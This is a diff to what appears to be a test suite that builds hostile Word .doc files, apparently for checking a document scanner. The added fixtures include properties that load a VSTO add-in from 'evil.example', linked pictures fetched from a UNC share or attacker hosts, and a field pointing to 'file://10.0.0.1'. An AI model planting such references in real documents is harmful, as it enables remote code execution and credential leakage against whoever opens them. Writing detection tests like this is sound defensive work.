@@ -3,6 +3,7 @@ import { buildDoc, type DocOptions, docField, wordClass, wordStreams } from './b
 import { buildDocx } from './build-docx.ts';
 import { buildPdf } from './build-pdf.ts';
 import { type HostileCv, heldFiles, program } from './hostile-cv.ts';
+import { linkedPicture } from './linked-picture.ts';
 
 const docs = heldFiles('DOC', 'cv.doc', buildDoc);
 
@@ -25,6 +26,9 @@ const linkFlags = (() => {
   return bytes;
 })();
 
+const properties = (content: Buffer) =>
+  buildCfb([...wordStreams(), { name: '\u0005DocumentSummaryInformation', content }], wordClass);
+
 function programs(): HostileCv[] {
   const vba: CfbPart[] = [
     { name: 'VBA', children: [{ name: 'dir' }, { name: '_VBA_PROJECT' }, { name: 'ThisDocument' }] },
@@ -41,6 +45,23 @@ function programs(): HostileCv[] {
       { parts: [{ name: '_vba_project' }] },
       { parts: [{ name: 'PROJECT' }] },
       pooled([...wordStreams(), { name: 'Macros', children: vba }], wordClass),
+    ),
+    ...docs(
+      'a program that its properties name',
+      'macro',
+      ...(['latin1', 'utf16le'] as const).map((letters) =>
+        properties(Buffer.from('\0\0_AssemblyLocation\0http://evil.example/x.vsto|', letters)),
+      ),
+      properties(Buffer.from('_ASSEMBLYNAME\0')),
+    ),
+    ...docs(
+      'a picture from elsewhere',
+      'fetches',
+      ...['\\\\10.0.0.1\\share\\x.png', 'http://evil.example/x.png'].flatMap((address) => [
+        { behindTable: linkedPicture(address) },
+        { parts: [{ name: 'Data', content: linkedPicture(address, 9) }] },
+      ]),
+      pooled(wordStreams({ behindTable: linkedPicture('file://evil/x.png') }), classes.wordPicture),
     ),
     ...docs('macros of Word 6', 'oldFormat', buildCfb(wordStreams({ version: 0x65, flags: 1 }), wordClass)),
     ...docs(
@@ -147,6 +168,7 @@ function fields(): HostileCv[] {
     docField('IMPORT "\\\\\\\\evil\\\\x.png"'),
     docField('MACROBUTTON AutoOpen click'),
     docField('SOMETHINGNEW'),
+    docField(' HYPERLINK \x13QUOTE "file://10.0.0.1/x"\x14file://10.0.0.1/x\x15 '),
   ];
   return [
     ...docs(
